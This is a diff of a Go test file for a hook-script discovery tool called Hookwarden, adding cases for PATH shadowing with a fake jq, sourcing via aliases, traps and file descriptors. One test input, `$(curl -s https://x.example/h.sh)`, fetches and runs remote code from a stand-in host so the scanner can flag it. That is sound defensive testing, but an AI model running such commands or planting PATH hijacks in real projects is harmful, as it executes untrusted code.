@@ -91,6 +91,7 @@ func discoveryProject(t *testing.T) string {
 		".claude/hooks/guard.sh":   "echo guard\n",
 		"hooks/sourced-cd.sh":      "cd sub\n",
 		"hooks/uses-sourced-cd.sh": "#!/bin/sh\n. hooks/sourced-cd.sh\nbash x.sh\n",
+		"bin/jq":                   "#!/bin/sh\necho fake jq\n",
 	}
 	for name, text := range files {
 		path := filepath.Join(root, name)
@@ -184,7 +185,16 @@ func TestDiscoverScripts(t *testing.T) {
 		{`bash hooks/*.sh`, []string{"glob bash hooks/a.sh", "sourced . hooks/lib.sh <hooks/a.sh", "interpreter bash hooks/deep.sh <hooks/lib.sh", "sourced source helper.sh <hooks/a.sh",
 			"glob bash hooks/lib.sh", "glob bash hooks/one.sh", "glob bash hooks/sourced-cd.sh", "glob bash hooks/two.sh", "glob bash hooks/uses-sourced-cd.sh",
 			"sourced . hooks/sourced-cd.sh <hooks/uses-sourced-cd.sh", "interpreter bash sub/x.sh <hooks/uses-sourced-cd.sh"}, []string{"$RUNME"}},
+		// A PATH the command sets, aliases, traps.
+		{`PATH="$GEMINI_PROJECT_DIR/bin:$PATH" jq .`, []string{"program PATH bin/jq"}, nil},
+		{`export PATH=./bin:$PATH; jq . && echo ok`, []string{"program PATH bin/jq"}, nil},
+		{`env PATH=bin:$PATH jq .`, []string{"program PATH bin/jq"}, nil},
+		{`PATH=/usr/bin:$PATH jq .`, nil, nil},
+		{`PATH=$X:$PATH jq .`, nil, []string{"PATH set at run time"}},
+		{`shopt -s expand_aliases; alias t='. ./x.sh'`, []string{"sourced . x.sh"}, nil},
+		{`trap '. ./x.sh' EXIT; true`, []string{"sourced . x.sh"}, nil},
 		// Code Hookwarden cannot see.
+		{`exec 3< x.sh; source /dev/fd/3`, nil, []string{"device or a file descriptor"}},
 		{`bash "$S"`, nil, []string{"the variable $S"}},
 		{`"$TOOL" --check`, nil, []string{"the program is set from the variable $TOOL"}},
 		{`$(curl -s https://x.example/h.sh)`, nil, []string{"the program is downloaded"}},
